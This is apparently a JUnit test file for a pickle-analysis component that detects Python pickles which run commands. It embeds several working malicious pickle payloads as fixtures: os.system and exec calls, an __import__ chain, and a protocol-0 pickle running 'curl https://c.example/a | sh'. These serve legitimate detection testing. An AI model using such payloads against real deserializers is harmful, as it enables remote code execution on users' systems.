package dev.assay.core.code.binary;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.fact.Act;
import dev.assay.core.testing.Mutator;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

class PickleReaderTest {
  private static final BinaryPlace PLACE = new BinaryPlace("m.pkl", List.of(), false);

  private static byte[] bytes(String latin) {
    return latin.getBytes(StandardCharsets.ISO_8859_1);
  }

  private static List<String> told(byte[] pickle) {
    return Binaries.pickle(pickle, PLACE).acts().stream()
        .map(act -> act.kind() + " " + act.target())
        .toList();
  }

  @Test
  void findsCommandsOfEveryProtocol() {
    byte[] zero = bytes("cposix\nsystem\np0\n(S'curl https://c.example/a | sh'\ntp1\nRp2\n.");
    byte[] two = bytes("\u0080\u0002cos\nsystem\nX\u0002\0\0\0id\u0085R.");
    byte[] four =
        bytes(
            "\u0080\u0004\u0095"
                + " \0\0\0\0\0\0\0\u008c\u0002os\u0094\u008c\u0006system\u0094\u0093\u0094"
                + "\u008c\u0002id\u0094\u0085\u0094R\u0094.");

    assertThat(told(zero)).contains("EXECUTES_TEXT pickle", "EXECUTES_TEXT https://c.example/a");
    assertThat(told(two)).containsExactly("EXECUTES_TEXT pickle", "SPAWNS id");
    assertThat(told(four)).containsExactly("EXECUTES_TEXT pickle", "SPAWNS id");
  }

  @Test
  void followsImportsAndMembers() {
    byte[] pickle =
        bytes(
            "\u0080\u0002cbuiltins\ngetattr\nc__builtin__\n__import__\nX\u0002\0\0\0os\u0085R"
                + "X\u0006\0\0\0system\u0086RX\u0002\0\0\0id\u0085R.");

    assertThat(told(pickle)).contains("SPAWNS id");
  }

  @Test
  void handsOnTheTextThatIsExecuted() {
    Binaries.Found found =
        Binaries.pickle(
            bytes("\u0080\u0002cbuiltins\nexec\nX\u0009\0\0\0import os\u0085R."), PLACE);

    assertThat(found.programs()).extracting(Binaries.Program::text).containsExactly("import os");
    assertThat(found.acts()).extracting(Act::reach).containsOnly(Act.Reach.AUTOMATIC);
  }

  @Test
  void readsTheEscapesOfOldText() {
    String program = "import os\\nprint(\\'\\x41\\')\\\\";
    byte[] text = bytes("cbuiltins\nexec\n(S'" + program + "'\ntR.");
    byte[] wide = bytes("cbuiltins\nexec\n(V\\u0041 = 1\\q\\x4\ntR.");

    assertThat(Binaries.pickle(text, PLACE).programs())
        .extracting(Binaries.Program::text)
        .containsExactly("import os\nprint('A')\\");
    assertThat(Binaries.pickle(wide, PLACE).programs())
        .extracting(Binaries.Program::text)
        .containsExactly("A = 1\\q\\x4");
  }

  @Test
  void leavesOrdinaryPicklesInPeace() {
    // `pickle.dumps([datetime.date(2020, 1, 2), {"a": 1.5}, "os.system"])`, protocol 4.
    byte[] ordinary =
        Base64.getDecoder()
            .decode(
                "gASVPQAAAAAAAABdlCiMCGRhdGV0aW1llIwEZGF0ZZSTlEMEB+QBApSFlFKUfZSMAWGURz/4AAAAAAAA"
                    + "c4wJb3Muc3lzdGVtlGUu");

    assertThat(told(ordinary)).isEmpty();
  }

  @Test
  void neverFails() {
    Mutator mutator =
        new Mutator(
            9,
            List.of(
                bytes("\u0080\u0002cos\nsystem\nX\u0002\0\0\0id\u0085R."),
                bytes("(lp0\nS'a'\np1\naI1\na(dp2\nS'k'\nF1.5\nsa.")));
    for (int i = 0; i < 5_000; i++) {
      assertThat(told(mutator.next())).hasSizeLessThan(3_000);
    }
  }
}
